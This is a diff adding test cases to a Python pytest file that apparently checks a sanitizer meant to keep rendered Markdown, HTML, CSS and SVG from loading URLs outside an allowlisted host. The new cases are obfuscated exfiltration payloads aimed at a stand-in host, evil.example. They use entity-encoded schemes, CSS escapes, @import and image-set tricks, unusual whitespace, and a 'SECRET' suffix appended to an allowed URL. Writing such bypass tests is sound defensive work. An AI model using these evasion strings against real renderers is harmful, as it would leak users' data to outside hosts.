@@ -75,6 +75,22 @@ AWAY = "//evil.example/x?d=1"
         "![x](https://good.example\xa0@evil.example/x?d=1)",
         "![x](https://good.example\u2003@evil.example/x?d=1)",
         f"![x](https://good.example{'^' * 64}@evil.example/x?d=1)",
+        *(f"![x]({blank}{AWAY})" for blank in "\xa0\u1680\u2003\u2028\u2029\u3000\ufeff"),
+        "![x](\xa0h&#116;tps&#58;/&#47;evil.example/x?d=1)",
+        "![x](\u2028 \ufeff</\\/evil.example/x?d=1>)",
+        rf"![x](h&#116tps\:{AWAY})",
+        r"![x](<&#47\/evil.example/x?d=1>)",
+        "![x][r]\n\n[r]: h&#116tps\\:/\\/evil.example/x?d=1\n",
+        r'<style>@import/**/"\2f\2f evil.example/x?d=1";</style>',
+        rf'<style>@import /* ; */ "https\3a {AWAY}";</style>',
+        r'<style>a{b:image-set(/**/"\2f\2f evil.example/x?d=1" 1x)}</style>',
+        r"<style>a{b:image-set('a' 1x,/*)*/'\2f\2f evil.example/x?d=1' 2x)}</style>",
+        "<svg><style>*{b:url&#40;&#47;&#47;evil.example/x?d=1)}</style></svg>",
+        "<svg><style>*{b:&#117;rl(&Tab;&bsol;2f/evil.example/x?d=1)}</style></svg>",
+        f"<svg><style>*{{b:url&lpar;{AWAY})}}</style></svg>",
+        "<svg><style>@import &quot;&#47;&#47;evil.example/x?d=1&quot;;</style></svg>",
+        f"<svg><style>&commat;import &#x22{AWAY}&QUOT;;</style></svg>",
+        f"<style>@import &#39;{AWAY}",
     ],
 )
 def test_what_led_away_once_leads_nowhere(text: str) -> None:
@@ -82,9 +98,19 @@ def test_what_led_away_once_leads_nowhere(text: str) -> None:
     assert {host for host, _ in places(passed(HOSTS, text, 0))} <= {"good.example"}
 
 
-@pytest.mark.parametrize("more", [",*!!:!!,;*", "////", "\xa0SECRET", "|SECRET", "%20"])
+@pytest.mark.parametrize("more", [",*!!:!!,;*", "////", "\xa0SECRET", "|SECRET", "%20", " SECRET"])
 @pytest.mark.parametrize(
-    "form", ["![x](<{}>)", '<img src="{}">', "![x]({})", "[r]: <{}>\n\n![x][r]"]
+    "form",
+    [
+        "![x](<{}>)",
+        '<img src="{}">',
+        "![x]({})",
+        "[r]: <{}>\n\n![x][r]",
+        '<style>@import/**/"{}";</style>',
+        '<style>a{{b:image-set(/*"*/"{}" 1x)}}</style>',
+        "<style>a{{b:image-set(url(x) 1x, '{}' 2x)}}</style>",
+        "<svg><style>@import &quot;{}&quot;;</style></svg>",
+    ],
 )
 def test_nothing_rides_behind_a_url_that_was_named(form: str, more: str) -> None:
     out = passed(EXACT, form.format(NAMED + more), 0)
